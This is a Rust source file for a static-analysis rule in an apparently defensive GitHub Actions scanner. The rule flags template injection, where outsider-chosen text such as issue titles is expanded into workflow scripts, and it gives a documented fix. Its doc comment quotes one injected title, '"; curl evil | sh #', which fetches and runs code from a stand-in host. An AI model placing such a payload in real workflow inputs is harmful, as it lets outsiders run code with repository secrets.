use lockgate_evidence::{Confidence, Finding, Span, rule};
use lockgate_pipelines::expression::Template;
use lockgate_pipelines::model::{Body, Run, Uses};
use lockgate_pipelines::yaml::Text;

use crate::context::Context;
use crate::data::code_inputs;
use crate::flow::{Flow, Taint, severity};
use crate::rewrite;
use crate::tree::Place;

rule! {
    /// # What it finds
    ///
    /// An expression `${{ … }}` that puts text an outsider chooses into a script, or into an input that an action runs as
    /// code. The value is followed back through `env`, inputs, matrices, outputs of steps and jobs, `GITHUB_ENV` and
    /// `GITHUB_OUTPUT`, composite actions and called workflows of the same repository; the finding shows each place it
    /// passed. Values that can only be a number, a commit id, a flag or a fixed word are left out, and so are expressions
    /// of which only a comparison's result is used.
    ///
    /// # Why it matters
    ///
    /// The platform expands expressions before the shell reads the script, so a title such as `"; curl evil | sh #` becomes a
    /// command. That is how outsiders ran code with the repository's secrets in the pipelines of `ultralytics` (December
    /// 2024, a branch name) and `nx` (August 2025, the title of a pull request). The severity is critical where anyone can
    /// start the workflow with the repository's rights, medium where only runs of fork pull requests without secrets are
    /// affected, low where the value comes from someone with rights of their own, and info where it is the output of an
    /// action whose inside cannot be seen. The confidence falls where the path crosses something outside the repository.
    ///
    /// # Bad
    ///
    /// ```yaml
    /// on: issues
    /// jobs:
    ///   greet:
    ///     runs-on: ubuntu-latest
    ///     steps:
    ///       - run: echo "Thanks for ${{ github.event.issue.title }}"
    /// ```
    ///
    /// # Good
    ///
    /// ```yaml
    /// on: issues
    /// jobs:
    ///   greet:
    ///     runs-on: ubuntu-latest
    ///     steps:
    ///       - env:
    ///           ISSUE_TITLE: ${{ github.event.issue.title }}
    ///         run: echo "Thanks for ${ISSUE_TITLE}"
    /// ```
    ///
    /// # How to fix
    ///
    /// Give the value to the step in `env` and use the variable, quoted. `lockgate fix` does that where it can see how the
    /// value is quoted.
    ///
    /// # References
    ///
    /// - Script injections, GitHub Docs
    /// - Keeping your GitHub Actions and workflows secure: Untrusted input, GitHub Security Lab
    /// - CWE-94
    Workload "workload/template-injection": "text chosen by an outsider is expanded into a script", Critical, High, fixable
}

pub(super) fn check(cx: &Context<'_>, out: &mut Vec<Finding>) {
    for (place, _, step) in cx.steps() {
        match &step.body {
            Body::Run(run) => script(cx, place, run, out),
            Body::Uses(uses) => inputs(cx, place, uses, out),
            Body::Nothing => {}
        }
    }
}

fn script(cx: &Context<'_>, place: Place<'_>, run: &Run, out: &mut Vec<Finding>) {
    let tainted = tainted(cx, place, &run.script);
    if tainted.is_empty() {
        return;
    }
    let templates: Vec<_> = tainted.iter().map(|(template, _)| *template).collect();
    let fix = rewrite::script(place, run, &templates);
    for (template, taint) in tainted {
        let mut finding = finding(cx, place, &run.script, template.span, &taint, "the script");
        finding.fix = fix
            .as_ref()
            .filter(|(_, done)| done.contains(&template.span))
            .map(|(fix, _)| fix.clone());
        out.push(finding);
    }
}

fn inputs(cx: &Context<'_>, place: Place<'_>, uses: &Uses, out: &mut Vec<Finding>) {
    let Some(action) = uses.target.action() else {
        return;
    };
    for binding in &uses.with.bindings {
        if !binding.value.is_templated() {
            continue;
        }
        let Some(language) = code_inputs::language(&action, binding.key.value()) else {
            continue;
        };
        let tainted = tainted(cx, place, &binding.value);
        let templates: Vec<_> = tainted.iter().map(|(template, _)| *template).collect();
        let fix = rewrite::input(place, uses, &binding.value, language, &templates);
        for (template, taint) in tainted {
            let into = format!("the input `{}` that `{action}` runs as code", binding.key);
            let mut finding = finding(cx, place, &binding.value, template.span, &taint, &into);
            finding.fix = fix
                .as_ref()
                .filter(|(_, done)| done.contains(&template.span))
                .map(|(fix, _)| fix.clone());
            out.push(finding);
        }
    }
}

fn tainted<'t>(cx: &Context<'_>, place: Place<'_>, text: &'t Text) -> Vec<(&'t Template, Taint)> {
    let flow = Flow::new(cx.tree);
    let templates = text.templates().iter();
    templates
        .filter_map(|template| {
            Some((
                template,
                flow.expression(place, template.expression.as_ref().ok()?)?,
            ))
        })
        .collect()
}

fn finding(
    cx: &Context<'_>,
    place: Place<'_>,
    text: &Text,
    span: Span,
    taint: &Taint,
    into: &str,
) -> Finding {
    let who = match (taint.is_attacker(), taint.confidence) {
        (true, _) => "an outsider can run commands here",
        (false, Confidence::Low) => "who decides it cannot be told",
        (false, _) => "whoever decides it can run commands here",
    };
    let message = format!("`{}` is expanded into {into}: {who}", taint.origin);
    let mut finding = cx.finding(&RULE, text.locate(span), message);
    finding = taint
        .explain(finding)
        .severity(severity(place, taint))
        .confidence(taint.confidence);
    if let Some(trigger) = place
        .pipeline
        .exposed_trigger()
        .filter(|_| taint.is_attacker())
    {
        let note = format!(
            "`{}` runs this with the repository's rights for anyone",
            trigger.name
        );
        finding = finding.related(&place.pipeline.source, trigger.name.span(), note);
    }
    finding
}
